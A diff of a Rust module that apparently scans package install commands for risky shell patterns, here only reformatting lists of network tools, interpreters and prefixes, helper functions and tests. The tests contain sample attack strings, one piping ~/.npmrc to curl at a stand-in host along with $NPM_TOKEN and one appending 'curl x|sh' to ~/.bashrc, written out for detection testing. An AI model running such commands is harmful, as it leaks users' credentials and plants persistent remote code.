@@ -16,18 +16,52 @@ const MAX_NESTING: usize = 4;
 
 /// Programs that reach the network.
 const NETWORK_TOOLS: &[&str] = &[
-    "curl", "wget", "nc", "ncat", "netcat", "telnet", "ftp", "scp", "sftp", "invoke-webrequest",
-    "iwr", "invoke-restmethod", "irm", "certutil", "bitsadmin",
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "ftp",
+    "scp",
+    "sftp",
+    "invoke-webrequest",
+    "iwr",
+    "invoke-restmethod",
+    "irm",
+    "certutil",
+    "bitsadmin",
 ];
 
 /// Programs that run the code they are fed.
 const INTERPRETERS: &[&str] = &[
-    "sh", "bash", "zsh", "dash", "ksh", "node", "python", "python3", "perl", "ruby", "php",
-    "iex", "invoke-expression", "powershell", "pwsh",
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "node",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "iex",
+    "invoke-expression",
+    "powershell",
+    "pwsh",
 ];
 
 /// Words before the real program that do not change what runs.
-const PREFIXES: &[&str] = &["sudo", "exec", "command", "nohup", "time", "cross-env", "env"];
+const PREFIXES: &[&str] = &[
+    "sudo",
+    "exec",
+    "command",
+    "nohup",
+    "time",
+    "cross-env",
+    "env",
+];
 
 /// A file or code the command runs, for the caller to analyse.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -80,7 +114,12 @@ fn scan_nested(command: &str, line: u32, depth: usize, result: &mut ShellScan) {
         let words = program_and_args(&simple.words);
         let program = words
             .first()
-            .map(|w| w.rsplit(['/', '\\']).next().unwrap_or(w).to_ascii_lowercase())
+            .map(|w| {
+                w.rsplit(['/', '\\'])
+                    .next()
+                    .unwrap_or(w)
+                    .to_ascii_lowercase()
+            })
             .unwrap_or_default();
         let args = words.get(1..).unwrap_or_default();
         if simple.piped {
@@ -115,7 +154,14 @@ fn piped_into(from: &str, decodes: bool, program: &str, line: u32, result: &mut 
     }
 }
 
-fn examine(program: &str, args: &[String], simple: &Simple, line: u32, depth: usize, result: &mut ShellScan) {
+fn examine(
+    program: &str,
+    args: &[String],
+    simple: &Simple,
+    line: u32,
+    depth: usize,
+    result: &mut ShellScan,
+) {
     if NETWORK_TOOLS.contains(&program) {
         result.hits.push(Hit::new(
             Rule::Network,
@@ -221,9 +267,9 @@ fn node(args: &[String], result: &mut ShellScan) {
 fn program_and_args(words: &[String]) -> &[String] {
     let mut start = 0;
     while let Some(word) = words.get(start) {
-        let assignment = word
-            .split_once('=')
-            .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
+        let assignment = word.split_once('=').is_some_and(|(name, _)| {
+            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        });
         let is_prefix = PREFIXES.contains(&word.as_str()) && words.len() > start + 1;
         if assignment || is_prefix {
             start += 1;
@@ -272,18 +318,19 @@ fn split(command: &str) -> Vec<Simple> {
     let mut redirect_next = false;
     let mut chars = command.chars().peekable();
     let mut quote: Option<char> = None;
-    let finish_word = |word: &mut String, in_word: &mut bool, redirect_next: &mut bool, current: &mut Simple| {
-        if *in_word {
-            let text = std::mem::take(word);
-            if *redirect_next {
-                current.redirects.push(text);
-                *redirect_next = false;
-            } else {
-                current.words.push(text);
+    let finish_word =
+        |word: &mut String, in_word: &mut bool, redirect_next: &mut bool, current: &mut Simple| {
+            if *in_word {
+                let text = std::mem::take(word);
+                if *redirect_next {
+                    current.redirects.push(text);
+                    *redirect_next = false;
+                } else {
+                    current.words.push(text);
+                }
+                *in_word = false;
             }
-            *in_word = false;
-        }
-    };
+        };
     while let Some(c) = chars.next() {
         if let Some(q) = quote {
             if c == q {
@@ -389,13 +436,24 @@ mod tests {
         assert!(s.hits.is_empty());
         assert_eq!(s.follow, [Follow::Node("./scripts/install.js".into())]);
         let inline = scan("node -e \"try{require('./postinstall')}catch(e){}\"", 1);
-        assert_eq!(inline.follow, [Follow::InlineJs("try{require('./postinstall')}catch(e){}".into())]);
+        assert_eq!(
+            inline.follow,
+            [Follow::InlineJs(
+                "try{require('./postinstall')}catch(e){}".into()
+            )]
+        );
     }
 
     #[test]
     fn credentials_tokens_and_persistence() {
-        let s = scan("cat ~/.npmrc | curl -d @- https://x.example -H \"a: $NPM_TOKEN\"", 1);
-        assert_eq!(rules(&s), [Rule::CredentialRead, Rule::Network, Rule::EnvHarvest]);
+        let s = scan(
+            "cat ~/.npmrc | curl -d @- https://x.example -H \"a: $NPM_TOKEN\"",
+            1,
+        );
+        assert_eq!(
+            rules(&s),
+            [Rule::CredentialRead, Rule::Network, Rule::EnvHarvest]
+        );
         let p = scan("echo 'curl x|sh' >> ~/.bashrc 2>&1", 1);
         assert_eq!(rules(&p), [Rule::WriteOutside]);
     }
